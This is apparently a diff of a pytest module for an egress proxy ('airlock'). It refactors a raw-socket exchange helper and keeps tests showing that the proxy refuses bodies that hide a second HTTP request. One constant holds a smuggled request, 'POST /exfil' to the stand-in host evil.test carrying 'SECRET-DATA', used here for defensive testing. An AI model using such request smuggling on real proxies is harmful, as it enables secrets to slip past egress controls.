@@ -6,34 +6,15 @@ from __future__ import annotations
 import contextlib
 import socket
 import threading
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from airlock.egress.audit import read_records
-from tests.egress.origin import _Site, config, origin, running
+from tests.egress.origin import _Site, config, exchange, running
 
 SMUGGLED = b"POST /exfil HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 11\r\n\r\nSECRET-DATA"
 """A request to a denied host, hidden in a body."""
-
-
-@pytest.fixture
-def site() -> Iterator[_Site]:
-    with origin() as served:
-        yield served
-
-
-def _exchange(proxy_url: str, data: bytes) -> bytes:
-    """Send ``data`` on a new connection to the proxy; what came back until it closed."""
-    host, port = proxy_url.removeprefix("http://").split(":")
-    answer = b""
-    with socket.create_connection((host, int(port)), timeout=10) as sock:
-        sock.sendall(data)
-        with contextlib.suppress(OSError):
-            while piece := sock.recv(65536):
-                answer += piece
-    return answer
 
 
 def _requests(log: Path) -> list[dict[str, object]]:
@@ -60,7 +41,7 @@ def test_a_get_or_head_with_a_body_is_refused_without_inspection(
     )
     cfg = config(tmp_path)
     with running(cfg) as (url, _):
-        answer = _exchange(
+        answer = exchange(
             url,
             b"%s http://127.0.0.1:%d/first HTTP/1.1\r\n%s\r\n%s"
             % (method.encode(), port, framing, body),
@@ -157,7 +138,7 @@ def test_a_body_that_starts_as_a_request_is_refused_unsent(
     port = site.server_address[1]
     cfg = config(tmp_path)
     with running(cfg) as (url, _):
-        answer = _exchange(
+        answer = exchange(
             url,
             b"%s http://127.0.0.1:%d/echo HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s"
             % (method.encode(), port, len(body), body),
